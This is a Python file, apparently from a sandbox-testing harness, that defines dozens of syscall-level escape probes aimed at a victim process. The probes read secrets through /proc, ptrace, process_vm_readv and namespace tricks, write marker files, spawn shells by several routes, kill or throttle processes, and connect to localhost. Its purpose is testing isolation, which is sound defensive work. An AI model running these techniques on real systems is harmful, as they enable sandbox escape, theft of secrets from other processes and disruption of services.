"""Attacks by Python, most of them through raw system calls, each with one effect on the host.

A script ends with its effect tried; whether it had one is for the host to see. Each has to work
without isolation, for the user of the run or for root alone.
"""

from __future__ import annotations

from attack import Attack

BEGIN = """
import ctypes, errno, fcntl, json, os, signal, socket, struct, subprocess, sys, time
facts = json.load(sys.stdin)
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
victim, secret, mark = facts["victim"], facts["secret"].encode(), facts["mark"].encode()
AT_FDCWD = -100

def call(name, *arguments):
    number = facts["numbers"].get(name)
    if number is None:
        raise OSError(errno.ENOSYS, name)
    passed = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    result = libc.syscall(ctypes.c_long(number), *passed)
    if result < 0:
        raise OSError(ctypes.get_errno(), name)
    return result

def tell(descriptor):
    print(json.dumps(os.read(descriptor, 64).decode()))

def attack():
"""
END = """
try:
    attack()
except OSError as error:
    print(json.dumps(str(error)))
"""


def _script(body: str) -> str:
    lines = [f"    {line}" if line else "" for line in body.strip().splitlines()]
    return BEGIN + "\n".join(lines) + "\n" + END


def _attacks(effect: str, bodies: dict[str, str], *, root: bool = False) -> list[Attack]:
    return [
        Attack("python", name, _script(body), effect, needs_root=root)
        for name, body in bodies.items()
    ]


_READS = _attacks(
    "secret",
    {
        "open": "tell(call('openat', AT_FDCWD, secret, 0, 0))",
        "openat2": "tell(call('openat2', AT_FDCWD, secret, bytes(24), 24))",
        "from-the-root-of-a-process": "tell(os.open(f'/proc/{victim}/root{facts[\"secret\"]}', 0))",
        "from-a-working-directory": "tell(os.open(f'/proc/{victim}/cwd/secret.txt', 0))",
        "descriptor-of-a-process": "tell(os.open(f'/proc/{victim}/fd/{facts[\"held\"]}', 0))",
        "environment-of-a-process": """
print(json.dumps(open(f'/proc/{victim}/environ').read()))""",
        "environment-of-the-parent": """
print(json.dumps(open(f'/proc/{os.getppid()}/environ').read()))""",
        "memory-of-a-process": """
memory = os.open(f'/proc/{victim}/mem', 0)
print(json.dumps(os.pread(memory, 32, facts['address']).decode('latin-1')))""",
        "process_vm_readv": """
buffer = ctypes.create_string_buffer(32)
here = struct.pack('QQ', ctypes.addressof(buffer), 32)
there = struct.pack('QQ', facts['address'], 32)
call('process_vm_readv', victim, here, 1, there, 1, 0)
print(json.dumps(buffer.raw.decode('latin-1')))""",
        "ptrace-peek": """
call('ptrace', 16, victim, 0, 0)
os.waitpid(victim, 0x40000000)
words = (ctypes.c_long * 4)()
for index in range(4):
    call('ptrace', 2, victim, facts['address'] + 8 * index, ctypes.byref(words, 8 * index))
print(json.dumps(bytes(words).decode('latin-1')))""",
        "pidfd_getfd": """
process = call('pidfd_open', victim, 0)
tell(os.open(f'/proc/self/fd/{call("pidfd_getfd", process, facts["held"], 0)}', 0))""",
        "symbolic-link": """
os.chdir(os.environ['TMPDIR'])
os.symlink(secret, 'link')
tell(os.open('link', 0))""",
        "upwards": "tell(os.open('../' * 20 + facts['secret'], 0))",
        "sendfile": """
reading, writing = os.pipe()
os.sendfile(writing, os.open(secret, 0), 0, 64)
tell(reading)""",
        "mmap": """
libc.mmap.restype = ctypes.c_void_p
place = libc.mmap(None, 4096, 1, 2, os.open(secret, 0), 0)
print(json.dumps(ctypes.string_at(place, 32).decode('latin-1')))""",
        "mount-of-a-new-namespace": """
os.chdir(os.environ['TMPDIR'])
os.mkdir('there')
call('unshare', 0x10000000 | 0x20000)
call('mount', os.path.dirname(secret), b'there', 0, 4096, 0)
tell(os.open('there/secret.txt', 0))""",
        "open_tree-of-a-new-namespace": """
call('unshare', 0x10000000 | 0x20000)
tree = call('open_tree', AT_FDCWD, os.path.dirname(secret), 1)
tell(os.open('secret.txt', 0, dir_fd=tree))""",
    },
)

_READS_AS_ROOT = _attacks(
    "secret",
    {
        "hard-link": """
os.chdir(os.environ['TMPDIR'])
os.link(secret, 'link')
tell(os.open('link', 0))""",
        "handle-of-a-file": """
handle = ctypes.create_string_buffer(struct.pack('Ii', 128, 0) + bytes(128))
mount = ctypes.c_int()
call('name_to_handle_at', AT_FDCWD, secret, handle, ctypes.byref(mount), 0)
directory = os.open(os.path.dirname(secret), os.O_RDONLY)
tell(call('open_by_handle_at', directory, handle, 0))""",
        "chroot-into-a-process": """
call('chroot', f'/proc/{victim}/root'.encode())
tell(os.open(secret, 0))""",
        "namespace-of-a-process": """
call('setns', os.open(f'/proc/{victim}/ns/mnt', 0), 0)
tell(os.open(secret, 0))""",
        "namespaces-by-pidfd": """
call('setns', call('pidfd_open', victim, 0), 0x20000)
tell(os.open(secret, 0))""",
    },
    root=True,
)

_WRITES = _attacks(
    "mark",
    {
        "create": "call('openat', AT_FDCWD, mark, os.O_CREAT | os.O_WRONLY, 0o600)",
        "mknod": "call('mknodat', AT_FDCWD, mark, 0o010600, 0)",
        "symlink": "call('symlinkat', b'x', AT_FDCWD, mark)",
        "link": """
os.chdir(os.environ['TMPDIR'])
open('own', 'w').close()
call('linkat', AT_FDCWD, b'own', AT_FDCWD, mark, 0)""",
        "rename": """
os.chdir(os.environ['TMPDIR'])
open('own', 'w').close()
call('renameat2', AT_FDCWD, b'own', AT_FDCWD, mark, 0)""",
        "unnamed-file": """
file = os.open(os.path.dirname(mark), os.O_TMPFILE | os.O_WRONLY, 0o600)
call('linkat', AT_FDCWD, f'/proc/self/fd/{file}'.encode(), AT_FDCWD, mark, 0x400)""",
        "bind-a-socket": "socket.socket(socket.AF_UNIX).bind(mark.decode())",
        "through-a-process": "open(f'/proc/{victim}/root{facts[\"mark\"]}', 'w').close()",
        "new-namespaces": """
call('unshare', 0x10000000 | 0x20000)
open(mark, 'w').close()""",
    },
)

_EXECUTES = _attacks(
    "mark",
    {
        "system": "os.system(f'echo > {facts[\"mark\"]}')",
        "subprocess": "subprocess.run(['sh', '-c', f'echo > {facts[\"mark\"]}'])",
        "posix_spawn": """
pid = os.posix_spawn('/bin/sh', ['sh', '-c', f'echo > {facts["mark"]}'], {})
os.waitpid(pid, 0)""",
        "execve": """
line = (ctypes.c_char_p * 4)(b'sh', b'-c', b'echo > ' + mark, None)
call('execve', b'/bin/sh', line, 0)""",
        "execveat": """
line = (ctypes.c_char_p * 4)(b'sh', b'-c', b'echo > ' + mark, None)
call('execveat', os.open('/bin/sh', 0), b'', line, 0, 0x1000)""",
        "memory-file": """
file = call('memfd_create', b'x', 0)
with open('/bin/sh', 'rb') as source:
    os.write(file, source.read())
os.execve(file, ['sh', '-c', f'echo > {facts["mark"]}'], {})""",
        "own-copy": """
import shutil
os.chdir(os.environ['TMPDIR'])
shutil.copy('/bin/sh', 'copy')
os.chmod('copy', 0o755)
os.execv('./copy', ['sh', '-c', f'echo > {facts["mark"]}'])""",
        "own-script": """
os.chdir(os.environ['TMPDIR'])
with open('own', 'w') as file:
    file.write(f'#!/bin/sh\\necho > {facts["mark"]}\\n')
os.chmod('own', 0o755)
os.execv('./own', ['own'])""",
        "loader": """
import glob
loader = glob.glob('/lib*/ld-linux*.so.*')[0]
os.execv(loader, [loader, '/bin/sh', '-c', f'echo > {facts["mark"]}'])""",
        "fork": """
if os.fork() == 0:
    open(mark, 'w').close()
    os._exit(0)
os.wait()""",
        "clone": """
if call('clone', 17, 0, 0, 0, 0) == 0:
    open(mark, 'w').close()
    os._exit(0)
os.wait()""",
        "clone3": """
arguments = struct.pack('8Q', 0, 0, 0, 0, 17, 0, 0, 0)
if call('clone3', arguments, 64) == 0:
    open(mark, 'w').close()
    os._exit(0)
os.wait()""",
        "process-pool": """
import multiprocessing
each = multiprocessing.get_context('fork').Process(target=lambda: open(mark, 'w').close())
each.start()
each.join()""",
    },
)

_OUTLIVES = [
    Attack(
        "python",
        "outlive-the-run",
        _script("""
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(3):
            os.close(number)
        time.sleep(0.3)
        open(mark, 'w').close()
    os._exit(0)
os.wait()"""),
        "mark",
        wait_s=0.6,
    )
]

_KILLS = _attacks(
    "killed",
    {
        "kill": "call('kill', victim, 9)",
        "kill-its-group": "call('kill', -victim, 9)",
        "tkill": "call('tkill', victim, 9)",
        "tgkill": "call('tgkill', victim, victim, 9)",
        "rt_sigqueueinfo": """
information = struct.pack('iiiiii', 9, 0, -1, 0, os.getpid(), 0) + bytes(104)
call('rt_sigqueueinfo', victim, 9, information)""",
        "rt_tgsigqueueinfo": """
information = struct.pack('iiiiii', 9, 0, -1, 0, os.getpid(), 0) + bytes(104)
call('rt_tgsigqueueinfo', victim, victim, 9, information)""",
        "pidfd_send_signal": "call('pidfd_send_signal', call('pidfd_open', victim, 0), 9, 0, 0)",
        "owner-of-a-pipe": """
reading, writing = os.pipe()
call('fcntl', reading, 8, victim)
call('fcntl', reading, 10, 9)
call('fcntl', reading, 4, 0o20000)
os.write(writing, b'x')
time.sleep(0.05)""",
        "owner-of-a-pipe-by-type": """
reading, writing = os.pipe()
call('fcntl', reading, 15, struct.pack('ii', 1, victim))
call('fcntl', reading, 10, 9)
call('fcntl', reading, 4, 0o20000)
os.write(writing, b'x')
time.sleep(0.05)""",
        "owner-of-a-socket": """
left, right = socket.socketpair()
fcntl.ioctl(left, 0x8901, struct.pack('i', victim))
call('fcntl', left.fileno(), 10, 9)
call('fcntl', left.fileno(), 4, 0o20000)
right.send(b'x')
time.sleep(0.05)""",
        "ptrace-kill": """
call('ptrace', 16, victim, 0, 0)
os.waitpid(victim, 0x40000000)
call('ptrace', 8, victim, 0, 0)
time.sleep(0.05)""",
    },
)

_CHANGES = [
    *_attacks("stopped", {"stop": "call('kill', victim, 19)"}),
    *_attacks(
        "changed",
        {
            "prlimit64": "call('prlimit64', victim, 7, struct.pack('QQ', 5, 5), 0)",
            "setpriority": "call('setpriority', 0, victim, 19)",
            "sched_setscheduler": "call('sched_setscheduler', victim, 3, struct.pack('i', 0))",
            "sched_setattr": """
call('sched_setattr', victim, struct.pack('IIQiIQQQ', 48, 3, 0, 19, 0, 0, 0, 0), 0)""",
            "sched_setaffinity": """
first = min(os.sched_getaffinity(victim))
call('sched_setaffinity', victim, 8, struct.pack('Q', 1 << first))""",
        },
    ),
]

_STORES = [
    *_attacks(
        "key",
        {
            "add_key": "call('add_key', b'user', b'skilllite-lab', b'x', 1, -4)",
            "keyctl": """
key = call('add_key', b'user', b'skilllite-lab', b'x', 1, -3)
call('keyctl', 8, key, -4, 0, 0)""",
        },
    ),
    *_attacks("shared memory", {"shmget": "call('shmget', 0x5B1E, 4096, 0o1666)"}),
]

_TALKS = _attacks(
    "visit",
    {
        "tcp": "socket.create_connection(('127.0.0.1', facts['port']), 5)",
        "tcp-by-calls": """
made = call('socket', 2, 1, 0)
address = struct.pack('!HHI8x', 0, facts['port'], 0x7F000001)
call('connect', made, struct.pack('H', 2) + address[2:], 16)""",
        "tcp-over-ipv6": """
made = socket.socket(socket.AF_INET6)
made.connect(('::ffff:127.0.0.1', facts['port']))""",
        "mptcp": """
made = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
made.connect(('127.0.0.1', facts['port']))""",
        "fast-open": """
made = socket.socket()
made.sendto(b'x', 0x20000000, ('127.0.0.1', facts['port']))""",
        "udp": "socket.socket(2, 2).sendto(b'x', ('127.0.0.1', facts['port']))",
        "unix": "socket.socket(socket.AF_UNIX).connect(facts['path'])",
        "abstract": "socket.socket(socket.AF_UNIX).connect('\\0' + facts['abstract'])",
        "http": """
import urllib.request
urllib.request.urlopen(f"http://127.0.0.1:{facts['port']}/", timeout=2)""",
        "asyncio": """
import asyncio
asyncio.run(asyncio.wait_for(asyncio.open_connection('127.0.0.1', facts['port']), 5))""",
        "network-of-a-new-namespace": """
call('unshare', 0x10000000)
socket.create_connection(('127.0.0.1', facts['port']), 5)""",
    },
)

ATTACKS: list[Attack] = [
    *_READS,
    *_READS_AS_ROOT,
    *_WRITES,
    *_EXECUTES,
    *_OUTLIVES,
    *_KILLS,
    *_CHANGES,
    *_STORES,
    *_TALKS,
]
